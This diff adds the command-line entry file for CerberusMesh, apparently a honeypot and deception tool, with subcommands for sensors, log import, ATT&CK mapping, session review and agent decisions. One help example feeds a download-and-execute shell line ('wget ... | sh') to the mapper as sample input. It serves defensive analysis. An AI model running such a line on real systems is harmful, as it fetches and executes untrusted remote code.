@@ -1,0 +1,226 @@
+/**
+ * The `cerberus` command. Data goes to stdout, messages to stderr; exit codes are those of the error catalogue
+ * (0 ok, 1 failure, 2 usage, 3 bad configuration, 4 not authorised, 5 not found, 6 unavailable).
+ * Every command is loaded when it is called, so `cerberus attack map` starts no database driver.
+ */
+import { CerberusError, ERROR_CATALOGUE } from '@cerberusmesh/contracts';
+import { Command, CommanderError } from 'commander';
+import { visible } from './output.ts';
+
+type Run = (...values: unknown[]) => Promise<void> | void;
+
+/** The action of one command file, loaded on first use. */
+function lazily(load: () => Promise<{ run: (...values: never[]) => Promise<void> | void }>): Run {
+  return async (...values) => {
+    const { run } = await load();
+    await Reflect.apply(run, undefined, values);
+  };
+}
+
+const program = new Command('cerberus')
+  .description('CerberusMesh: a deception mesh that turns attacks into explained decisions')
+  .showHelpAfterError('(see cerberus --help)')
+  .configureHelp({ sortSubcommands: false })
+  .exitOverride();
+
+/** Options that every command with a data directory takes. */
+function withConfiguration(command: Command): Command {
+  return command
+    .option(
+      '--config <file>',
+      'configuration file (default: cerberus.yaml in the working directory, when there is one)',
+    )
+    .option('--data-dir <directory>', 'where everything is kept');
+}
+
+function withOutput(command: Command): Command {
+  return command.option('-o, --output <format>', 'table, json, ndjson or csv', 'table');
+}
+
+function examples(command: Command, ...lines: string[]): Command {
+  return command.addHelpText('after', `\nExamples:\n${lines.map((line) => `  $ ${line}`).join('\n')}`);
+}
+
+function group(name: string, description: string): Command {
+  return program.command(name).description(description);
+}
+
+examples(
+  withConfiguration(program.command('up'))
+    .description('start everything on this machine: database, hub, console, traps')
+    .option('--port <number>', 'port of the API and the console (0: any free one)')
+    .action(lazily(() => import('./commands/up.ts'))),
+  'cerberus up',
+  'cerberus up --data-dir ./data --port 0',
+);
+
+const sensor = group('sensor', 'run a sensor that reports to a hub elsewhere, or enrol one');
+examples(
+  withConfiguration(sensor.command('run', { isDefault: true }))
+    .description('run the traps of this machine and report to a hub')
+    .requiredOption('--hub <url>', 'address of the hub, https://...')
+    .requiredOption('--key-file <file>', 'file with the sensor key from `cerberus sensor enrol`')
+    .option('--ca-file <file>', 'certificate authority of the hub, PEM')
+    .action(lazily(() => import('./commands/sensor/run.ts'))),
+  'cerberus sensor --hub https://hub.example.org:7071 --key-file /etc/cerberus/sensor.key',
+);
+examples(
+  withOutput(withConfiguration(sensor.command('enrol <id>')))
+    .description('make a key for a sensor elsewhere (on the hub machine)')
+    .action(lazily(() => import('./commands/sensor/enrol.ts'))),
+  'cerberus sensor enrol branch-office',
+);
+
+examples(
+  withConfiguration(program.command('hub'))
+    .description('run the hub without traps')
+    .option('--port <number>', 'port of the API and the console (0: any free one)')
+    .action(lazily(() => import('./commands/hub.ts'))),
+  'cerberus hub --data-dir /var/lib/cerberusmesh',
+);
+
+examples(
+  withOutput(withConfiguration(program.command('import <file...>')))
+    .description('run foreign logs through the whole pipeline, with a running hub or without one; - is stdin')
+    .option('--format <name>', 'auto or cowrie', 'auto')
+    .option('--reject-file <file>', 'where rejected lines go (default: below the data directory)')
+    .action(lazily(() => import('./commands/import.ts'))),
+  'cerberus import /var/log/cowrie/cowrie.json*',
+  'zcat old.json.gz | cerberus import - --format cowrie -o json',
+);
+
+examples(
+  group('attack', 'MITRE ATT&CK')
+    .command('map')
+    .description('map commands from stdin to techniques, one command line or session a line; needs no hub')
+    .option('--jsonl', 'lines are {"id","statements":[...]}')
+    .action(lazily(() => import('./commands/attack/map.ts'))),
+  "echo 'wget http://192.0.2.1/x -O- | sh' | cerberus attack map",
+  'cerberus attack map --jsonl < sessions.jsonl > mapped.jsonl',
+);
+
+const session = group('session', 'look at sessions');
+examples(
+  withOutput(withConfiguration(session.command('list')))
+    .description('newest first')
+    .option('--limit <number>', 'how many', '50')
+    .option('--source <address>', 'only of this source address')
+    .option('--technique <id>', 'only with this technique')
+    .option('--min-score <number>', 'only with at least this score, 0-1')
+    .option('--open', 'only those still open')
+    .action(lazily(() => import('./commands/session/list.ts'))),
+  'cerberus session list --min-score 0.7',
+);
+examples(
+  withOutput(withConfiguration(session.command('show <id>')))
+    .description('everything about one session: commands, techniques with evidence, score, decisions')
+    .action(lazily(() => import('./commands/session/show.ts'))),
+  'cerberus session show 0198f3a0',
+);
+examples(
+  withConfiguration(session.command('replay <id>'))
+    .description('play the recorded terminal in this terminal')
+    .option('--speed <factor>', 'times faster', '1')
+    .option('--idle <seconds>', 'longest pause to keep', '2')
+    .action(lazily(() => import('./commands/session/replay.ts'))),
+  'cerberus session replay 0198f3a0 --speed 4',
+);
+examples(
+  withConfiguration(session.command('export <id>'))
+    .description('every event of one session as NDJSON')
+    .action(lazily(() => import('./commands/session/export.ts'))),
+  'cerberus session export 0198f3a0 > session.ndjson',
+);
+
+const decision = group('decision', 'look at what the agent decided');
+examples(
+  withOutput(withConfiguration(decision.command('list')))
+    .description('newest first')
+    .option('--limit <number>', 'how many', '50')
+    .option('--kind <kind>', 'monitor, rotate_key, launch_decoy, insert_trap or escalate')
+    .action(lazily(() => import('./commands/decision/list.ts'))),
+  'cerberus decision list --kind escalate',
+);
+examples(
+  withOutput(withConfiguration(decision.command('why <id>')))
+    .description('reasons, evidence, alternatives, and what would have changed it')
+    .action(lazily(() => import('./commands/decision/why.ts'))),
+  'cerberus decision why 5e1b2c',
+);
+
+examples(
+  withOutput(withConfiguration(group('trap', 'look at traps').command('list')))
+    .description('what listens where')
+    .action(lazily(() => import('./commands/trap/list.ts'))),
+  'cerberus trap list',
+);
+
+examples(
+  withOutput(withConfiguration(group('key', 'machine keys').command('create')))
+    .description('make a key for the API (on the hub machine)')
+    .requiredOption('--role <role>', 'viewer, analyst, responder or admin')
+    .option('--name <name>', 'what it is for', 'cli')
+    .option('--expires-in-days <number>', 'days until it ends (default: never)')
+    .action(lazily(() => import('./commands/key/create.ts'))),
+  'cerberus key create --role viewer -o json',
+);
+
+examples(
+  withConfiguration(program.command('replay'))
+    .description('derive everything again from the event log (the hub must be stopped)')
+    .requiredOption('--rebuild', 'sessions, attackers, detections and decisions are emptied and made anew')
+    .action(lazily(() => import('./commands/replay.ts'))),
+  'cerberus replay --rebuild',
+);
+
+const config = group('config', 'look at the configuration');
+withConfiguration(config.command('show'))
+  .description('the configuration in force, defaults included, secrets hidden')
+  .action(lazily(() => import('./commands/config/show.ts')));
+withConfiguration(config.command('validate'))
+  .description('check it and say what is wrong where')
+  .action(lazily(() => import('./commands/config/validate.ts')));
+config
+  .command('schema')
+  .description('JSON Schema of cerberus.yaml')
+  .action(lazily(() => import('./commands/config/schema.ts')));
+
+withOutput(withConfiguration(program.command('doctor')))
+  .description('check this machine and this installation, and say what to do')
+  .action(lazily(() => import('./commands/doctor.ts')));
+
+examples(
+  withConfiguration(program.command('demo'))
+    .description('attack the traps of the running instance on this machine, so that the console comes alive')
+    .option('--sessions <number>', 'how many sessions', '24')
+    .option('--seed <number>', 'same seed, same attackers', '1')
+    .option('--seconds <number>', 'spread over this many seconds', '45')
+    .action(lazily(() => import('./commands/demo.ts'))),
+  'cerberus demo',
+);
+
+program
+  .command('version')
+  .description('version of everything in use')
+  .action(lazily(() => import('./commands/version.ts')));
+
+process.stdout.on('error', (error) => {
+  // `cerberus session list | head`: the reader has seen enough.
+  if ('code' in error && error.code === 'EPIPE') process.exit(0);
+  throw error;
+});
+
+try {
+  await program.parseAsync(process.argv);
+} catch (error) {
+  if (error instanceof CommanderError) {
+    process.exitCode = error.exitCode === 0 ? 0 : 2;
+  } else if (error instanceof CerberusError) {
+    process.stderr.write(`cerberus: ${error.message.split('\n').map(visible).join('\n          ')}\n`);
+    process.exitCode = ERROR_CATALOGUE[error.code].exitCode;
+  } else {
+    process.stderr.write(`cerberus: ${visible(error instanceof Error ? error.message : String(error))}\n`);
+    if (process.env.CERBERUS_LOG_LEVEL === 'debug' && error instanceof Error) process.stderr.write(`${error.stack}\n`);
+    process.exitCode = 1;
+  }
+}
